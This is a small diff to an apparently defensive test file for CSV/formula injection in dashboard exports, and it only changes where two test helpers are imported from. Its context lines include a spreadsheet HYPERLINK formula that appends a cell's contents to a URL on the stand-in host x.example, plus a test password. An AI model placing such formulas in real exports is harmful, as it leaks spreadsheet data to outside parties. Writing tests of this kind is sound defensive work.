@@ -21,7 +21,7 @@ from db.session import make_engine, make_session_factory, transaction
 from db.users import create_user
 from indicators.exports import FORMULA_STARTS
 from loaders.first_run import ensure_ready
-from tests.dashboard.test_auth import ORIGIN, sign_in
+from tests.helpers import ORIGIN, sign_in
 
 LINK = '=HYPERLINK("http://x.example/?"&B2,"点击查看")'
 PASSWORD = "公式-注入-测试-口令-2026"
